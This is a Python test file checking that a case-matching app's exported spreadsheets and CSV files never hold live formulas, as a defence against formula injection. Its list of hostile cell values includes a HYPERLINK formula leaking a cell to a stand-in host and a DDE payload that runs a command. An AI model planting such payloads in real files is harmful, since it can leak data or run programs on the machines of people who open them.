"""What somebody types in a cell is never run by the spreadsheet that opens our files."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from matcher.domain.case import Case
from matcher.domain.coordinator import Coordinator
from matcher.domain.roster import Roster
from matcher.exchange import read, write_csv_folder, write_roster
from matcher.explain.solved_round import RoundRequest
from matcher.services import Services

ON = date(2026, 11, 23)
UTF8_CSV = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1"
"""Every sheet, in UTF-8."""
EVIL = (
    "=1+1",
    '=HYPERLINK("http://ond.example/?"&A1,"trykk")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    '";=1+1',
    "=1+1;=2",
)


def roster(words: tuple[str, ...]) -> Roster:
    """Words put wherever a file has room for them."""
    cases = [
        Case(id=f"S-{i}", what_matters=word, area=word, family=word)
        for i, word in enumerate(words, 1)
    ]
    people = [
        Coordinator(id=f"K-{i}", name=word, unit=word, agreed_hours_per_month=10)
        for i, word in enumerate(words, 1)
    ]
    return Roster.of(ON, cases, people)


def live_formulas(content: bytes) -> list[str]:
    """The cells that a spreadsheet would work out, or that lead out of the file."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    found = [str(c.value) for c in cells if c.data_type == "f" or c.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        found += [n for n in names if "externalLink" in n or "vbaProject" in n]
        found += [n for n in names if b"<f>" in archive.read(n) and n.startswith("xl/worksheets/")]
    return found


@given(
    st.lists(st.sampled_from(EVIL) | st.text("=+-@\t;'\"A1() ", min_size=1), min_size=1, max_size=4)
)
def test_no_workbook_we_write_holds_a_live_formula(words: list[str]) -> None:
    assert live_formulas(write_roster(roster(tuple(words)))) == []


def test_the_plans_workbook_holds_no_live_formula() -> None:
    services = Services()
    made = roster(EVIL)
    plan = services.run_round(RoundRequest(made, services.profile("farsund")))
    assert live_formulas(services.plan_workbook(plan, made)) == []


def test_the_refused_rows_hold_no_live_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_roster(roster(("a", "b")))))
    sheet = book["Saker"]
    for row, word in enumerate(EVIL, 2):
        sheet.cell(row, 1).value = "S-1"
        sheet.cell(row, 2).value = "ingen dag"
        cell = sheet.cell(row, 3)
        cell.value, cell.data_type = word, "s"
    out = io.BytesIO()
    book.save(out)
    rejected = read("inn.xlsx", out.getvalue(), ON).rejected_workbook
    assert rejected is not None
    assert live_formulas(rejected) == []


def test_no_csv_we_write_begins_a_cell_as_a_formula(tmp_path: Path) -> None:
    write_csv_folder(roster(EVIL), tmp_path)
    cells = [
        cell
        for file in tmp_path.glob("*.csv")
        for row in csv.reader(io.StringIO(file.read_text("utf-8-sig")), delimiter=";")
        for cell in row
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.soak
def test_a_real_spreadsheet_program_works_nothing_out(tmp_path: Path) -> None:
    """LibreOffice itself, where it is installed; the tests above read the file's own parts."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("Fant ikke LibreOffice.")
    (tmp_path / "ut.xlsx").write_bytes(write_roster(roster(EVIL)))
    home = f"-env:UserInstallation=file://{tmp_path / 'hjem'}"
    command = [program, home, "--headless", "--convert-to", UTF8_CSV, "--outdir", str(tmp_path)]
    subprocess.run([*command, str(tmp_path / "ut.xlsx")], check=True, timeout=180)
    opened = "".join(file.read_text("utf-8") for file in tmp_path.glob("ut-*.csv"))
    for word in ("=1+1", "+1+1", "-2+3", "HYPERLINK", "cmd|"):
        assert word in opened, "shown as it was typed"
